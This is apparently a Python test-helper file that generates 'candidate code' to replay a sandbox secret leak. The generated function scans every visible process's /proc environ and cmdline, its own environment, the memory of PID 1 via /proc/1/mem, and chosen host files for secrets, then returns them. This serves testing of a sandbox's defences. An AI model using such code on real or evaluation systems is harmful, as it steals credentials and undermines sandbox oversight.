"""Candidate code that hunts for the server's secrets, shared by the tests that replay the sandbox leak."""

from __future__ import annotations

from collections.abc import Sequence

# Reads every place of the sandbox where a secret of the process running it could be: the environments
# and command lines of every process it can see, its own environment, the readable memory of PID 1
# (bwrap), and the given host files. Returns what it found, as the visible example's output, which the
# review shows in full.
_HUNT = """
import os, re
def %(function_name)s(*args):
    found = []
    for pid in sorted(p for p in os.listdir('/proc') if p.isdigit()) + ['self']:
        for name in ('environ', 'cmdline'):
            try:
                with open(f'/proc/{pid}/{name}', 'rb') as handle:
                    found.append(f'{pid}/{name}: ' + handle.read().decode('latin-1'))
            except OSError as exc:
                found.append(f'{pid}/{name}: {type(exc).__name__}')
    found.append('os.environ: ' + repr(dict(os.environ)))
    try:
        with open('/proc/1/mem', 'rb', 0) as memory:
            for line in open('/proc/1/maps').read().splitlines():
                span, permissions = line.split()[:2]
                start, end = (int(part, 16) for part in span.split('-'))
                if 'r' not in permissions:
                    continue
                try:
                    memory.seek(start)
                    data = memory.read(end - start)
                except (OSError, ValueError, OverflowError):
                    continue
                found += [m.decode('latin-1') for m in re.findall(rb'[A-Z_]{3,}=[ -~]{4,200}', data)]
    except OSError as exc:
        found.append(f'/proc/1/mem: {type(exc).__name__}')
    for path in %(paths)r:
        try:
            found.append(path + ': ' + open(path, 'rb').read(2000).decode('latin-1'))
        except OSError as exc:
            found.append(f'{path}: {type(exc).__name__}')
    return found
"""


def secret_hunt(function_name: str, paths: Sequence[str]) -> str:
    """The solution's source: ``function_name`` takes any arguments and returns what it found."""
    return _HUNT % {"function_name": function_name, "paths": list(paths)}
